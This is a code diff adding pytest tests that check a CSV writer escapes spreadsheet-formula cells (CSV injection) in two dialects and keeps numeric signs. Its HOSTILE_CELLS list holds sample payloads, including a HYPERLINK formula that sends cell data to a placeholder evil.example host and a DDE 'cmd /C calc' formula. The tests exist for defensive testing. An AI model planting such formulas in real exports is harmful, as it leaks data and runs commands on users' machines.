@@ -115,3 +115,45 @@ def test_unknown_dialect(tmp_path):
 )
 def test_split_list(cell, expected):
     assert split_list(cell) == expected
+
+
+# Cells a spreadsheet would evaluate (OWASP "CSV injection"), as they reach our text columns:
+# an HTML <title>, a PDF's metadata, a sentence that opens a list, a file name.
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
+    "+33 1 23 45 67 89",
+    "- 12 communes du Vexin",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'déjà apostrophé",
+    "'=2+2",
+]
+HARMLESS_CELLS = ["CPTS du Lac", "45 000 habitants", "Saint-Étienne", "", "a=b", "x-y"]
+
+
+@pytest.mark.parametrize("dialect", ["standard", "excel-fr"])
+@pytest.mark.parametrize("dtype", [object, "str"])
+def test_no_cell_starts_a_formula_in_either_dialect(tmp_path, dialect, dtype):
+    cells = HOSTILE_CELLS + HARMLESS_CELLS
+    frame = pd.DataFrame({"title": pd.Series(cells, dtype=dtype),
+                          "departments": pd.Series([["=1"]] + [[]] * (len(cells) - 1),
+                                                   dtype=object)})
+    path = write_csv(frame, tmp_path / "t.csv", dialect=dialect)
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=DIALECTS[dialect]["sep"]))[1:]
+    for title, departments in rows:
+        for cell in (title, departments):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    written = dict(zip(cells, (r[0] for r in rows), strict=True))
+    assert all(written[c] == "'" + c for c in HOSTILE_CELLS)
+    assert all(written[c] == c for c in HARMLESS_CELLS)
+    back = read_csv(path, dialect, list_columns=["departments"])
+    assert back["title"].fillna("").tolist() == cells  # read_csv gives back the exact values
+    assert back["departments"].tolist()[0] == ["=1"]
+
+
+def test_numbers_keep_their_sign(tmp_path):
+    frame = pd.DataFrame({"delta": pd.Series([-5, 3], dtype="Int64"), "rate": [-0.5, 1.0]})
+    text = write_csv(frame, tmp_path / "t.csv").read_text()
+    assert text.splitlines()[1:] == ["-5,-0.5", "3,1.0"]
